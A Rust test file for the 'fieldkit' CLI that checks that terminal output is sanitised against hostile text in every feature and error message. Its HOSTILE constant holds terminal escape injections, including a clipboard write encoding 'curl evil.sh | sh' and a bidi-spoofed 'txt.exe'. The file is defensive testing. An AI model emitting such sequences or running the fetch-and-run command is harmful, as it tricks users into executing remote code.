//! The rules that protect the user's words, through the command line:
//! nothing reaches a terminal raw, a damaged file is refused, a backup
//! restores, numbers stay finite.

use super::TempDb;
use fieldkit::domain::backlog::{ItemPatch, Lane, NewItem, Tags, Title};
use fieldkit::domain::interview::NewInterview;
use fieldkit::domain::rice::{Confidence, Effort, Impact, Reach, Rice};
use fieldkit::domain::script::{Placeholders, Script};
use fieldkit::domain::shadow::{EventKind, NewSession};
use fieldkit::domain::synthesis::{EvidenceRef, Section, SourceKind, Verdict};
use fieldkit::store::Store;

/// ESC sequences that set the title and the clipboard, C0, DEL, C1 (CSI
/// and NEL), bidi overrides and isolates, a line separator.
pub const HOSTILE: &str = "\u{1b}]0;pwned\u{7}\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\u{9b}31m\u{85}\u{202e}txt.exe\u{2066}\u{8}\r\u{7f}\u{2028}end";

/// Records that the IDs the builder made, to name them in commands.
pub struct Built {
    pub item: String,
    pub promoted: String,
    pub session: String,
    pub interview: String,
    pub synthesis: String,
    pub script: String,
}

/// A file that uses every feature, every piece of text holding `text`.
/// Fields whose parser keeps control characters out get them afterwards,
/// as a file from elsewhere (a sync, an older version) could hold them.
pub fn every_feature(db: &TempDb, text: &str) -> Built {
    let now: jiff::Timestamp = "2026-11-25T14:00:00Z".parse().unwrap();
    let later: jiff::Timestamp = "2026-11-25T15:30:00Z".parse().unwrap();
    let mut store = Store::open(&db.path).unwrap();
    let rice = |reach: &str| Rice {
        reach: Reach::parse(reach).unwrap(),
        impact: Impact::parse("high").unwrap(),
        confidence: Confidence::parse("80").unwrap(),
        effort: Effort::parse("2").unwrap(),
    };
    let new_item = |title: &str, reach: &str, lane: Lane| NewItem {
        title: Title::parse(title).unwrap(),
        description: format!("First line {text}\nsecond line"),
        rice: rice(reach),
        lane,
        tags: Tags::parse("ci dx").unwrap(),
        kill_reason: None,
    };
    let item = store
        .add_item(&new_item("Faster CI", "200", Lane::Now), now)
        .unwrap();
    let killed = store
        .add_item(&new_item("Service mesh", "200", Lane::Later), now)
        .unwrap();
    store
        .update_item(
            &item.id,
            &ItemPatch {
                reach: Some(Reach::parse("250").unwrap()),
                ..Default::default()
            },
            later,
        )
        .unwrap();
    store
        .update_item(
            &killed.id,
            &ItemPatch {
                lane: Some(Lane::Killed),
                kill_reason: Some(format!("Too early {text}")),
                ..Default::default()
            },
            later,
        )
        .unwrap();

    let script_source = format!(
        "name = \"Pulse\"\n[[phases]]\nname = \"Warm-up\"\nminutes = 3\n\
         questions = [\"How is {{feature}} going? {}\", \"Rank {{a}}, {{b}}, {{c}}\"]\n",
        toml_escape(text)
    );
    let script = Script::parse(&script_source).unwrap();
    store.save_script(&script, &script_source, now).unwrap();

    let session = store
        .create_session(
            &NewSession::parse("Alex", "Deploy", "15", "5").unwrap(),
            now,
        )
        .unwrap();
    let mut events = Vec::new();
    for (i, kind) in [
        EventKind::Note,
        EventKind::Friction,
        EventKind::Tool,
        EventKind::Switch,
        EventKind::Wish,
    ]
    .into_iter()
    .enumerate()
    {
        let event = store
            .add_event(
                &session.id,
                kind,
                60_000 * (i as i64 + 1),
                &format!("{} {text}", kind.name()),
                now,
            )
            .unwrap();
        events.push(event);
    }
    let wait = store
        .add_event(&session.id, EventKind::Wait, 400_000, text, now)
        .unwrap();
    store.end_wait(&wait.id, 500_000, now).unwrap();
    let gone = store
        .add_event(&session.id, EventKind::Note, 550_000, "gone", now)
        .unwrap();
    store.delete_event(&gone.id, now).unwrap();
    store
        .pause_session(&session.id, 600_000, "paused", now)
        .unwrap();
    store.resume_session(&session.id, later).unwrap();
    store.end_session(&session.id, 1_200_000, later).unwrap();

    let stored_script = store.script("Pulse").unwrap();
    let interview = store
        .create_interview(
            &NewInterview::parse(
                "Priya",
                "Payments",
                Placeholders::from_ranking(&["CI", "DBs", text]),
                &[&format!("CI is the pain {text}"), "second"],
            )
            .unwrap(),
            &stored_script,
            now,
        )
        .unwrap();
    store
        .save_note(&interview.id, 0, 20_000, &format!("note {text}"), now)
        .unwrap();
    let quote = store
        .add_quote(&interview.id, 0, 30_000, &format!("quote {text}"), now)
        .unwrap();
    let talk = store.start_talk(&interview.id, 40_000, now).unwrap();
    store.end_talk(&talk, 50_000, now).unwrap();
    store.add_step(&interview.id, 1, 90_000, now).unwrap();
    store
        .set_ranking(
            &interview.id,
            &["DBs".into(), text.to_string(), "CI".into()],
            now,
        )
        .unwrap();
    store.end_interview(&interview.id, 180_000, later).unwrap();

    let synthesis = store
        .create_synthesis(
            "Deploys Q4",
            &[
                (SourceKind::Interview, interview.id.clone()),
                (SourceKind::Shadowing, session.id.clone()),
            ],
            now,
        )
        .unwrap();
    let pain = store
        .add_entry(
            &synthesis.id,
            Section::PainPoint,
            &format!("Slow CI {text}"),
            now,
        )
        .unwrap();
    store
        .link_evidence(&pain, &EvidenceRef::InterviewNote(quote.clone()), now)
        .unwrap();
    store
        .link_evidence(&pain, &EvidenceRef::ShadowEvent(events[1].id.clone()), now)
        .unwrap();
    store
        .add_entry(&synthesis.id, Section::Surprise, text, now)
        .unwrap();
    let assumption = store
        .add_entry(&synthesis.id, Section::Assumption, "CI is slow", now)
        .unwrap();
    store
        .set_verdict(&assumption, Some(Verdict::Validated), now)
        .unwrap();
    let action = store
        .add_entry(&synthesis.id, Section::Action, "Cache builds", now)
        .unwrap();
    store
        .link_evidence(&action, &EvidenceRef::InterviewNote(quote), now)
        .unwrap();
    let promoted = store
        .promote_entry(&action, &new_item("Cache builds", "80", Lane::Inbox), later)
        .unwrap();
    drop(store);

    // Text the parsers keep clean, as a file from elsewhere may hold it.
    let conn = rusqlite::Connection::open(&db.path).unwrap();
    conn.execute_batch(&format!(
        "UPDATE backlog_item SET title = title || ' ' || {t};
         UPDATE score_history SET change = change || {t};
         UPDATE shadow_session SET participant = participant || {t}, workflow = workflow || {t};
         UPDATE interview SET participant = participant || {t}, team = team || {t};
         UPDATE interview_script SET name = name || {t} WHERE name = 'Pulse';
         UPDATE synthesis SET title = title || {t};",
        t = sql_literal(text)
    ))
    .unwrap();
    Built {
        item: item.id,
        promoted: promoted.id,
        session: session.id,
        interview: interview.id,
        synthesis: synthesis.id,
        script: format!("Pulse{text}"),
    }
}

/// Text inside a TOML basic string: every control and non-ASCII
/// character as a `\uXXXX` escape.
fn toml_escape(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            '"' | '\\' => format!("\\{c}"),
            c if c.is_ascii_graphic() || c == ' ' => c.to_string(),
            c => format!("\\u{:04X}", u32::from(c)),
        })
        .collect()
}

fn sql_literal(text: &str) -> String {
    format!("'{}'", text.replace('\'', "''"))
}

/// A character that must never reach a terminal raw.
fn unsafe_char(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || matches!(c, '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}')
}

/// Fails naming the command when its output holds a raw unsafe character
/// (CSV's CRLF line ends aside).
fn assert_inert(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes).replace("\r\n", "\n");
    if let Some(c) = text.chars().find(|&c| unsafe_char(c)) {
        panic!("{what}: raw U+{:04X} in {text:?}", u32::from(c));
    }
}

mod sanitizer {
    use super::*;

    #[test]
    fn hostile_text_never_reaches_the_terminal_raw() {
        let db = TempDb::new();
        let ids = every_feature(&db, HOSTILE);
        let (item, session, interview, synthesis) = (
            ids.item.as_str(),
            ids.session.as_str(),
            ids.interview.as_str(),
            ids.synthesis.as_str(),
        );
        let mut runs: Vec<Vec<&str>> = vec![
            vec!["backlog", "list", "--all"],
            vec!["backlog", "list", "--all", "--format", "csv"],
            vec!["backlog", "list", "--all", "--format", "json"],
            vec!["backlog", "list", "--all", "--format", "md"],
            vec!["backlog", "show", item],
            vec!["backlog", "show", item, "--format", "json"],
            vec!["backlog", "show", &ids.promoted],
            vec!["shadow", "list"],
            vec!["shadow", "list", "--format", "json"],
            vec!["shadow", "export", session],
            vec!["shadow", "export", session, "--format", "json"],
            vec!["interview", "list"],
            vec!["interview", "list", "--format", "json"],
            vec!["interview", "export", interview],
            vec!["interview", "export", interview, "--format", "json"],
            vec!["script", "list"],
            vec!["script", "show", &ids.script],
            vec!["synthesis", "list"],
            vec!["synthesis", "list", "--format", "json"],
            vec!["synthesis", "export", synthesis],
            vec!["synthesis", "export", synthesis, "--format", "json"],
            vec!["export"],
        ];
        // Commands that echo a stored title, and the errors that echo input.
        runs.push(vec!["backlog", "set", item, "--reach", "300"]);
        runs.push(vec!["backlog", "kill", item, "--reason", HOSTILE]);
        runs.push(vec!["backlog", "list", "--lane", HOSTILE]);
        runs.push(vec!["backlog", "list", "--format", HOSTILE]);
        runs.push(vec!["backlog", "show", HOSTILE]);
        runs.push(vec!["backlog", "set", &ids.promoted, "--impact", HOSTILE]);
        runs.push(vec!["backlog", "set", &ids.promoted, "--tag", HOSTILE]);
        runs.push(vec!["script", "show", HOSTILE]);
        runs.push(vec![HOSTILE]);
        for args in &runs {
            let out = db.cmd(args).output().unwrap();
            let what = format!("{args:?}");
            assert_inert(&format!("{what} stdout"), &out.stdout);
            assert_inert(&format!("{what} stderr"), &out.stderr);
            if args.contains(&"json") || args == &["export"] {
                let value: serde_json::Value =
                    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{what}: {e}"));
                assert!(
                    value.to_string().contains("txt.exe"),
                    "{what}: the text is kept"
                );
            }
        }
        // The JSON keeps the text exactly, escaped.
        let export = db.ok(&["export"]);
        assert!(
            export.contains("\\u009b31m\\u0085\\u202etxt.exe\\u2066"),
            "{export}"
        );
    }

    #[test]
    fn files_and_paths_that_are_echoed_are_inert() {
        let db = TempDb::new();
        db.ok(&["backlog", "list"]);
        // A CSV cell echoed in the import error.
        let csv = db.dir.path().join("bad.csv");
        std::fs::write(
            &csv,
            format!("title,reach,impact,confidence,effort\nA,1,1,80,1\nB,\"{HOSTILE}\",1,80,1\n"),
        )
        .unwrap();
        let out = db
            .cmd(&["backlog", "import", csv.to_str().unwrap()])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2));
        assert_inert("import error", &out.stderr);
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains("line 3, column 2") && err.contains("\\u{1b}"),
            "{err}"
        );
        // A lane echoed in the import error.
        std::fs::write(
            &csv,
            format!("title,reach,impact,confidence,effort,lane\nA,1,1,80,1,\"{HOSTILE}\"\n"),
        )
        .unwrap();
        let out = db
            .cmd(&["backlog", "import", csv.to_str().unwrap()])
            .output()
            .unwrap();
        assert_inert("import lane error", &out.stderr);
        // A script's name printed by `script import`, a script's bad placeholder.
        let toml = db.dir.path().join("s.toml");
        std::fs::write(
            &toml,
            "name = \"\\u001b]0;pwned\\u0007\\u009b\\u202e\"\n[[phases]]\nname = \"A\"\nminutes = 5\nquestions = [\"Q?\"]\n",
        )
        .unwrap();
        let out = db
            .cmd(&["script", "import", toml.to_str().unwrap()])
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
        assert_inert("script import", &out.stdout);
        assert_inert(
            "script list",
            &db.cmd(&["script", "list"]).output().unwrap().stdout,
        );
        std::fs::write(
            &toml,
            "name = \"x\"\n[[phases]]\nname = \"A\"\nminutes = 5\nquestions = [\"Is {\\u001b]0;x\\u0007} ok?\"]\n",
        )
        .unwrap();
        let out = db
            .cmd(&["script", "import", toml.to_str().unwrap()])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2));
        assert_inert("script error", &out.stderr);
        // A database path that holds ESC, echoed by demo and by errors.
        let odd = db.dir.path().join("\u{1b}]0;pwned\u{7}.db");
        let out = assert_cmd::Command::cargo_bin("fieldkit")
            .unwrap()
            .env_remove("FIELDKIT_DB")
            .arg("--db")
            .arg(&odd)
            .arg("demo")
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
        assert_inert("demo", &out.stdout);
        assert_inert("demo stderr", &out.stderr);
        std::fs::write(&odd, b"not a database at all, not at all, no").unwrap();
        let out = assert_cmd::Command::cargo_bin("fieldkit")
            .unwrap()
            .env_remove("FIELDKIT_DB")
            .arg("--db")
            .arg(&odd)
            .args(["backlog", "list"])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1));
        assert_inert("refusal", &out.stderr);
    }
}
